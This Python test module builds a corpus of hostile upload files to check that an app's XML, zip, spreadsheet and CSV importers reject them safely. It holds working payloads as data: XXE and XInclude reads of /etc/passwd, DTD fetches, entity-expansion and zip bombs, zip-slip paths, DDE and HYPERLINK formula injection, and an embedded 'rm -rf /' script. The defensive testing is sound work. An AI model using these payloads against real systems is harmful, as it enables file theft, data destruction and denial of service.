"""Build the hostile corpus: every file in ``corpus/`` and its README, byte for byte the same on
every run. ``python -m tests.hostile.make_corpus`` rewrites the folder; the tests check that
the committed files are exactly what this module builds. The big attacks (a million rows, a
10 MB text node) are built at test time by ``big_attacks`` instead of being committed."""

from __future__ import annotations

import io
import random
import struct
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from .samples import BANK_CSV, IMPORT_XML, OFFERS_XML, ORDERS_XML, zip_bytes

CORPUS = Path(__file__).parent / "corpus"
HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
ROOT_OPEN = '<КоммерческаяИнформация ВерсияСхемы="2.08" ДатаФормирования="2025-01-01T00:00:00">'
ROOT_CLOSE = "</КоммерческаяИнформация>"
GOODS = (
    '<Каталог СодержитТолькоИзменения="true"><Ид>hst-cat</Ид><Товары><Товар><Ид>hst-evil</Ид>'
    "<Наименование>{name}</Наименование></Товар></Товары></Каталог>"
)
LOOPBACK = "http://127.0.0.1:9"  # nothing listens there; a parser that calls out fails fast
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Открыть")',
    "+SUM(1+1)*cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    '=WEBSERVICE("http://127.0.0.1:9/")',
]


@dataclass(frozen=True)
class Attack:
    name: str
    attacks: str  # one line for the README
    build: Callable[[], bytes]


def catalog(name: str, *, prolog: str = "") -> str:
    return HEAD + prolog + ROOT_OPEN + GOODS.format(name=name) + ROOT_CLOSE


def laughs(levels: int = 10) -> str:
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, levels)
    )
    return f"<!DOCTYPE lolz [{entities}]>\n"


def deep(levels: int) -> str:
    return HEAD + ROOT_OPEN + "<Каталог>" * levels + "</Каталог>" * levels + ROOT_CLOSE


# ------------------------------------------------------------------ xlsx parts

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    "</Types>"
)
RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Заказ" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
    "{extra}</Relationships>"
)
SHEET = (
    '<?xml version="1.0" encoding="UTF-8"?>{prolog}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    "<sheetData>{rows}</sheetData></worksheet>"
)
HEADER_ROW = (
    '<row r="1"><c r="A1" t="inlineStr"><is><t>Артикул</t></is></c>'
    '<c r="B1" t="inlineStr"><is><t>Количество</t></is></c></row>'
)
SHARED = (
    '<?xml version="1.0" encoding="{encoding}"?>{prolog}<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    "{items}</sst>"
)


def inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def xlsx(
    rows: str = "",
    *,
    sheet_prolog: str = "",
    shared: bytes | None = None,
    extra: dict[str, bytes | str] | None = None,
    rels_extra: str = "",
) -> bytes:
    members: dict[str, bytes | str] = {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": RELS,
        "xl/workbook.xml": WORKBOOK,
        "xl/_rels/workbook.xml.rels": WORKBOOK_RELS.format(extra=rels_extra),
        "xl/worksheets/sheet1.xml": SHEET.format(prolog=sheet_prolog, rows=HEADER_ROW + rows),
        "xl/sharedStrings.xml": shared
        or SHARED.format(encoding="UTF-8", prolog="", items="<si><t>HST-DV-1</t></si>"),
    }
    members.update(extra or {})
    return zip_bytes(members)


def column(number: int) -> str:
    letters = ""
    while number:
        number, rest = divmod(number - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def wide_row(columns: int) -> str:
    return (
        '<row r="2">'
        + "".join(f'<c r="{column(i)}2"><v>1</v></c>' for i in range(1, columns + 1))
        + "</row>"
    )


def formula_rows() -> str:
    rows = []
    for number, formula in enumerate(FORMULAS, start=2):
        escaped = formula.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
        rows.append(
            f'<row r="{number}"><c r="A{number}" t="str"><f>{escaped.lstrip("=+-@")}</f>'
            f'<v>{escaped}</v></c><c r="B{number}"><f>1/0</f></c></row>'
        )
    return "".join(rows)


# ------------------------------------------------------------------ zip tricks


def symlink_zip(member: str, target: str, *, extra: dict[str, bytes | str]) -> bytes:
    buffer = io.BytesIO(zip_bytes(extra))
    with zipfile.ZipFile(buffer, "a") as archive:
        info = zipfile.ZipInfo(member, (2025, 1, 1, 0, 0, 0))
        info.external_attr = (0o120777) << 16  # S_IFLNK | rwxrwxrwx
        info.create_system = 3
        archive.writestr(info, target)
    return buffer.getvalue()


def overlapping_zip(copies: int, payload: bytes, name: str = "import.xml") -> bytes:
    """One compressed member and ``copies`` central-directory entries all pointing at it:
    a few hundred KB that unpack into ``copies`` × len(payload) bytes (D. Fifield's trick,
    without the quoting)."""
    single = zip_bytes({name: payload})
    end = single.rindex(b"PK\x05\x06")
    central_start = struct.unpack("<I", single[end + 16 : end + 20])[0]
    central = single[central_start:end]
    entries = central * copies
    record = struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, copies, copies, len(entries), central_start, 0
    )
    return single[:central_start] + entries + record


def patched_sizes(data: bytes, *, file_size: int) -> bytes:
    """The zip with its first member's uncompressed size lying in both headers."""
    patched = bytearray(data)
    local = patched.index(b"PK\x03\x04")
    patched[local + 22 : local + 26] = struct.pack("<I", file_size)
    central = patched.index(b"PK\x01\x02")
    patched[central + 24 : central + 28] = struct.pack("<I", file_size)
    return bytes(patched)


def encrypted_flag(data: bytes) -> bytes:
    patched = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        position = patched.index(signature)
        patched[position + offset] |= 0x1
    return bytes(patched)


def random_hex(size: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(size // 2).hex().encode()


def compound_file(streams: dict[str, bytes]) -> bytes:
    """A minimal OLE2 compound file (what a password-protected .xlsx is) holding ``streams``."""
    sector = 512
    names = list(streams)
    data_sectors: list[bytes] = []
    starts = []
    for name in names:
        content = streams[name].ljust(4096, b"\0")  # ≥ 4096: regular sectors, no mini stream
        starts.append(len(data_sectors))
        data_sectors += [content[i : i + sector] for i in range(0, len(content), sector)]
    directory_sector = len(data_sectors)
    fat_sector = directory_sector + 1
    fat = []
    for index, name in enumerate(names):
        count = len(streams[name].ljust(4096, b"\0")) // sector
        fat += [starts[index] + k + 1 for k in range(count - 1)] + [0xFFFFFFFE]
    fat += [0xFFFFFFFE, 0xFFFFFFFD]  # the directory, the FAT itself
    fat += [0xFFFFFFFF] * (128 - len(fat))

    def entry(
        name: str, kind: int, start: int, size: int, child: int = 0xFFFFFFFF, right=0xFFFFFFFF
    ) -> bytes:
        encoded = (name + "\0").encode("utf-16-le")
        return (
            encoded.ljust(64, b"\0")
            + struct.pack("<HBB3I", len(encoded), kind, 1, 0xFFFFFFFF, right, child)
            + b"\0" * 36
            + struct.pack("<IIi", start, size, 0)
        )

    entries = [entry("Root Entry", 5, 0xFFFFFFFE, 0, child=1)]
    for index, name in enumerate(names):
        right = index + 2 if index + 1 < len(names) else 0xFFFFFFFF
        entries.append(
            entry(name, 2, starts[index], len(streams[name].ljust(4096, b"\0")), right=right)
        )
    directory = b"".join(entries).ljust(sector, b"\0")
    header = (
        bytes.fromhex("D0CF11E0A1B11AE1")
        + b"\0" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\0" * 6
        + struct.pack("<IIIIIIIII", 0, 1, directory_sector, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
        + struct.pack("<I", fat_sector)
        + b"\xff" * 4 * 108
    )
    return header + b"".join(data_sectors) + directory + struct.pack("<128I", *fat)


# ------------------------------------------------------------------ the corpus

ATTACKS: list[Attack] = [
    # XML: entities, DTDs, encodings, structure
    Attack(
        "xml_xxe_file.xml",
        "внешняя сущность SYSTEM file:///etc/passwd (XXE)",
        lambda: catalog(
            "&xxe;", prolog='<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        ).encode(),
    ),
    Attack(
        "xml_xxe_network.xml",
        "внешняя сущность с адресом в сети (SSRF через XXE)",
        lambda: catalog(
            "&xxe;", prolog=f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "{LOOPBACK}/secret">]>\n'
        ).encode(),
    ),
    Attack(
        "xml_billion_laughs.xml",
        "экспоненциальное раскрытие сущностей («миллиард смешков»)",
        lambda: catalog("&lol9;", prolog=laughs()).encode(),
    ),
    Attack(
        "xml_quadratic_blowup.xml",
        "квадратичное раскрытие: длинная сущность, упомянутая тысячи раз",
        lambda: catalog(
            "&a;" * 5000, prolog=f'<!DOCTYPE x [<!ENTITY a "{"Ж" * 10000}">]>\n'
        ).encode(),
    ),
    Attack(
        "xml_dtd_retrieval.xml",
        "загрузка внешнего DTD по сети (DOCTYPE SYSTEM)",
        lambda: catalog(
            "Окно", prolog=f'<!DOCTYPE КоммерческаяИнформация SYSTEM "{LOOPBACK}/evil.dtd">\n'
        ).encode(),
    ),
    Attack(
        "xml_parameter_entity.xml",
        "параметрическая сущность, тянущая внешний DTD (out-of-band XXE)",
        lambda: catalog(
            "Окно", prolog=f'<!DOCTYPE x [<!ENTITY % remote SYSTEM "{LOOPBACK}/x.dtd"> %remote;]>\n'
        ).encode(),
    ),
    Attack(
        "xml_doctype_after_comment.xml",
        "DOCTYPE, спрятанный за комментарием и инструкцией обработки",
        lambda: catalog(
            "&xxe;",
            prolog='<!-- 1С --><?x y?>\n<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>',
        ).encode(),
    ),
    Attack(
        "xml_xinclude.xml",
        "XInclude файла сервера (/etc/passwd)",
        lambda: catalog(
            '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
        ).encode(),
    ),
    Attack(
        "xml_undeclared_entity.xml",
        "ссылка на необъявленную сущность",
        lambda: catalog("&secret;").encode(),
    ),
    Attack(
        "xml_cp1251_declared_utf8.xml",
        "windows-1251 в файле, объявленном как UTF-8",
        lambda: IMPORT_XML.encode("cp1251"),
    ),
    Attack(
        "xml_utf8_declared_cp1251.xml",
        "UTF-8 в файле, объявленном как windows-1251",
        lambda: IMPORT_XML.replace('encoding="UTF-8"', 'encoding="windows-1251"').encode(),
    ),
    Attack(
        "xml_utf16.xml",
        "UTF-16 с BOM вместо UTF-8/windows-1251",
        lambda: IMPORT_XML.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"),
    ),
    Attack(
        "xml_truncated.xml",
        "файл обрезан посередине",
        lambda: IMPORT_XML.encode()[: len(IMPORT_XML.encode()) // 2],
    ),
    Attack(
        "xml_deep_nesting.xml", "вложенность элементов 5000 уровней", lambda: deep(5000).encode()
    ),
    Attack(
        "xml_wrong_magic_png.xml",
        "неверные магические байты: картинка PNG под именем .xml",
        lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4,
    ),
    Attack(
        "xml_zip_named_xml.xml",
        "zip-архив под именем .xml",
        lambda: zip_bytes({"import.xml": IMPORT_XML}),
    ),
    Attack("xml_empty.xml", "пустой файл", lambda: b""),
    Attack(
        "xml_html.xml",
        "HTML-страница вместо CommerceML",
        lambda: (HEAD + "<html><body>Ошибка 502</body></html>").encode(),
    ),
    Attack(
        "xml_nul_bytes.xml",
        "нулевые байты внутри XML",
        lambda: IMPORT_XML.encode().replace("Дверь «Проверка»".encode(), b"\0\0\0", 1),
    ),
    Attack(
        "xml_formulas_in_names.xml",
        "формулы Excel в названиях товаров (попадут в выгрузки)",
        lambda: catalog(FORMULAS[0].replace("&", "&amp;")).encode(),
    ),
    Attack(
        "xml_orders_bad_values.xml",
        "документы 1С с суммой и датами, которые не разбираются",
        lambda: (
            ORDERS_XML.replace("<Сумма>1000.00</Сумма>", "<Сумма>1e99999</Сумма>")
            .replace("2025-06-29T15:39:10", "2025-13-45T99:99:99")
            .encode()
        ),
    ),
    # zip archives
    Attack(
        "zip_slip.zip",
        "zip slip: член архива ../../evil.xml",
        lambda: zip_bytes({"../../evil.xml": IMPORT_XML}),
    ),
    Attack(
        "zip_absolute_path.zip",
        "абсолютный путь члена архива /etc/cron.d/evil",
        lambda: zip_bytes({"/etc/cron.d/evil.xml": IMPORT_XML}),
    ),
    Attack(
        "zip_backslash_slip.zip",
        "zip slip с обратными косыми: ..\\..\\evil.xml",
        lambda: zip_bytes({"..\\..\\evil.xml": IMPORT_XML}),
    ),
    Attack(
        "zip_drive_letter.zip",
        "путь с буквой диска C:/evil.xml",
        lambda: zip_bytes({"C:/evil.xml": IMPORT_XML}),
    ),
    Attack(
        "zip_symlink.zip",
        "символическая ссылка в архиве на /etc/passwd",
        lambda: symlink_zip(
            "import_files/link.png", "/etc/passwd", extra={"import.xml": IMPORT_XML}
        ),
    ),
    Attack(
        "zip_overlapping_entries.zip",
        "2000 записей каталога архива указывают на одни и те же сжатые байты",
        lambda: overlapping_zip(2000, random_hex(100_000, seed=1)),
    ),
    Attack(
        "zip_ratio_1000.zip",
        "степень сжатия больше 100:1 (10 МБ пробелов в XML)",
        lambda: zip_bytes({"import.xml": HEAD.encode() + b" " * 10_000_000 + b"<a/>"}),
    ),
    Attack(
        "zip_lying_size.zip",
        "заголовок архива занижает размер распакованного файла",
        lambda: patched_sizes(
            zip_bytes({"import.xml": random_hex(200_000, seed=2)}), file_size=1000
        ),
    ),
    Attack(
        "zip_encrypted.zip",
        "член архива помечен зашифрованным",
        lambda: encrypted_flag(zip_bytes({"import.xml": IMPORT_XML})),
    ),
    Attack(
        "zip_nested_bomb.zip",
        "архив в архиве с zip-бомбой внутри",
        lambda: zip_bytes(
            {"import.xml": IMPORT_XML, "inner.zip": zip_bytes({"import.xml": b" " * 5_000_000})}
        ),
    ),
    Attack(
        "zip_truncated.zip",
        "архив обрезан (нет каталога архива)",
        lambda: zip_bytes({"import.xml": IMPORT_XML, "offers.xml": OFFERS_XML})[:900],
    ),
    Attack(
        "zip_not_a_zip.zip",
        "неверные магические байты: текст под именем .zip",
        lambda: "Это не архив, а текст.".encode(),
    ),
    Attack(
        "zip_duplicate_names.zip",
        "два члена архива с одним именем import.xml",
        lambda: _duplicate_names(),
    ),
    Attack(
        "zip_many_entries.zip",
        "2000 пустых файлов в архиве",
        lambda: zip_bytes({f"d/{i}.txt": b"" for i in range(2000)}),
    ),
    Attack(
        "zip_xxe_inside.zip",
        "XXE внутри import.xml в архиве",
        lambda: zip_bytes(
            {
                "import.xml": catalog(
                    "&xxe;", prolog='<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
                )
            }
        ),
    ),
    # spreadsheets
    Attack(
        "xlsx_bomb.xlsx",
        "zip-бомба в книге: лист распаковывается в 60 МБ",
        lambda: xlsx(extra={"xl/worksheets/sheet2.xml": b" " * 60_000_000}),
    ),
    Attack(
        "xlsx_far_cell.xlsx",
        "одна ячейка в XFD1048576 (лист 17 млрд ячеек)",
        lambda: xlsx('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
    ),
    Attack(
        "xlsx_four_letter_column.xlsx",
        "ссылка на столбец из четырёх букв (ZZZZ9000): 4 млрд ячеек у читателя",
        lambda: xlsx('<row r="9000"><c r="A9000"><v>1</v></c><c r="ZZZZ9000"><v>1</v></c></row>'),
    ),
    Attack(
        "xlsx_16384_columns.xlsx",
        "строка из 16 384 заполненных столбцов",
        lambda: xlsx(wide_row(16384)),
    ),
    Attack(
        "xlsx_formulas.xlsx",
        "формулы в ячейках: DDE cmd, HYPERLINK, WEBSERVICE, без сохранённых значений",
        lambda: xlsx(formula_rows()),
    ),
    Attack(
        "xlsx_xxe.xlsx",
        "внешняя сущность в XML листа",
        lambda: xlsx(
            inline("A2", "&xxe;").join(['<row r="2">', "</row>"]),
            sheet_prolog='<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        ),
    ),
    Attack(
        "xlsx_billion_laughs.xlsx",
        "«миллиард смешков» в общих строках книги",
        lambda: xlsx(
            '<row r="2"><c r="A2" t="s"><v>0</v></c></row>',
            shared=SHARED.format(
                encoding="UTF-8", prolog=laughs(), items="<si><t>&lol9;</t></si>"
            ).encode(),
        ),
    ),
    Attack(
        "xlsx_external_link.xlsx",
        "внешняя ссылка книги на file:///etc/passwd",
        lambda: xlsx(
            '<row r="2"><c r="A2"><f>[1]Лист1!A1</f></c></row>',
            rels_extra='<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="file:///etc/passwd" TargetMode="External"/>',
        ),
    ),
    Attack(
        "xlsx_wrong_magic.xlsx",
        "неверные магические байты: PDF под именем .xlsx",
        lambda: b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n",
    ),
    Attack(
        "xls_html_table.xls",
        "HTML-таблица, сохранённая как .xls",
        lambda: (
            "<html><body><table><tr><td>Артикул</td><td>Количество</td></tr></table></body></html>".encode()
        ),
    ),
    Attack(
        "xlsx_encrypted.xlsx",
        "книга, защищённая паролем (OLE с EncryptedPackage)",
        lambda: compound_file(
            {"EncryptionInfo": b"\x04\x00\x04\x00", "EncryptedPackage": b"x" * 64}
        ),
    ),
    Attack("xlsx_truncated.xlsx", "книга обрезана посередине", lambda: xlsx(wide_row(20))[:700]),
    Attack(
        "xlsx_overlapping_entries.xlsx",
        "книга, где 400 записей каталога архива делят одни байты",
        lambda: overlapping_zip(400, random_hex(100_000, seed=3), name="xl/workbook.xml"),
    ),
    Attack(
        "xlsx_zip_slip.xlsx",
        "книга с членом архива ../../evil.sh",
        lambda: xlsx(extra={"../../evil.sh": b"#!/bin/sh\nrm -rf /\n"}),
    ),
    Attack(
        "xlsx_cp1251_declared_utf8.xlsx",
        "общие строки в windows-1251, объявленные как UTF-8",
        lambda: xlsx(
            '<row r="2"><c r="A2" t="s"><v>0</v></c><c r="B2"><v>1</v></c></row>',
            shared=SHARED.format(encoding="UTF-8", prolog="", items="<si><t>Дверь</t></si>").encode(
                "cp1251"
            ),
        ),
    ),
    Attack(
        "xlsx_utf8_declared_cp1251.xlsx",
        "общие строки в UTF-8, объявленные как windows-1251",
        lambda: xlsx(
            '<row r="2"><c r="A2" t="s"><v>0</v></c><c r="B2"><v>1</v></c></row>',
            shared=SHARED.format(
                encoding="windows-1251", prolog="", items="<si><t>Дверь</t></si>"
            ).encode(),
        ),
    ),
    # CSV bank statements
    Attack(
        "csv_cp1251_with_utf8_bom.csv",
        "выписка в windows-1251 с BOM UTF-8 (объявлена как UTF-8)",
        lambda: b"\xef\xbb\xbf" + BANK_CSV.encode("cp1251"),
    ),
    Attack(
        "csv_formulas.csv",
        "формулы в ячейках выписки (CSV injection)",
        lambda: (
            BANK_CSV.splitlines()[0]
            + "\n"
            + "".join(f"01.06.2025;{f};7700020012;1;{f}\n" for f in FORMULAS)
        ).encode(),
    ),
    Attack(
        "csv_16384_columns.csv",
        "строка выписки из 16 384 столбцов",
        lambda: (BANK_CSV + ";".join(["1"] * 16384) + "\n").encode(),
    ),
    Attack(
        "csv_wrong_magic.csv",
        "неверные магические байты: zip под именем .csv",
        lambda: zip_bytes({"a.csv": BANK_CSV}),
    ),
]


def _duplicate_names() -> bytes:
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        warnings.simplefilter("ignore")
        for content in (IMPORT_XML, catalog("Второй import.xml")):
            info = zipfile.ZipInfo("import.xml", (2025, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, content)
    return buffer.getvalue()


# ------------------------------------------------------------------ built at test time


def million_rows_xlsx() -> bytes:
    """An order form with a million filled rows (~40 MB of sheet XML, a few MB packed)."""
    rows = "".join(
        f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c><c r="B{n}"><v>1</v></c></row>'
        for n in range(2, 1_000_002)
    )
    return xlsx(rows)


def million_rows_csv() -> bytes:
    line = "01.06.2025;1000,00;7700020012;15;Оплата\n"
    return (BANK_CSV + line * 1_000_000).encode()


def million_documents_xml() -> bytes:
    """A 1C orders file of a million documents (none matches a portal order)."""
    document = "<Документ><Ид>x{n}</Ид><Номер>НЕТ-{n}</Номер><Сумма>1</Сумма></Документ>"
    body = "".join(document.format(n=n) for n in range(1_000_000))
    return (HEAD + ROOT_OPEN + body + ROOT_CLOSE).encode()


def huge_text_xml() -> bytes:
    """A product name of 12 MB: past libxml2's limit for one text node."""
    return catalog("Ж" * 6_000_000).encode()


BIG_ATTACKS: list[Attack] = [
    Attack("big_million_rows.xlsx", "миллион строк в бланке заказа", million_rows_xlsx),
    Attack("big_million_rows.csv", "миллион строк в выписке банка", million_rows_csv),
    Attack(
        "big_million_documents.xml", "миллион документов в файле заказов 1С", million_documents_xml
    ),
    Attack("big_huge_text_node.xml", "текстовый узел 12 МБ в XML", huge_text_xml),
]


def readme() -> str:
    lines = [
        "# Hostile corpus",
        "",
        "Built by `python -m tests.hostile.make_corpus` (deterministic; `test_corpus.py` checks",
        "these bytes are what the builder makes). Every file goes through every upload path;",
        "each must be answered below HTTP 500 with a Russian message, in under 10 s and 512 MB,",
        "and a refused file changes nothing. Big attacks are built at test time, not committed.",
        "",
        "| file | attacks |",
        "| --- | --- |",
    ]
    lines += [f"| `{a.name}` | {a.attacks} |" for a in ATTACKS]
    lines += ["", "Built at test time:", "", "| file | attacks |", "| --- | --- |"]
    lines += [f"| `{a.name}` | {a.attacks} |" for a in BIG_ATTACKS]
    return "\n".join(lines) + "\n"


def write(folder: Path = CORPUS) -> None:
    folder.mkdir(exist_ok=True)
    for attack in ATTACKS:
        (folder / attack.name).write_bytes(attack.build())
    (folder / "README.md").write_text(readme(), encoding="utf-8")


if __name__ == "__main__":
    write()
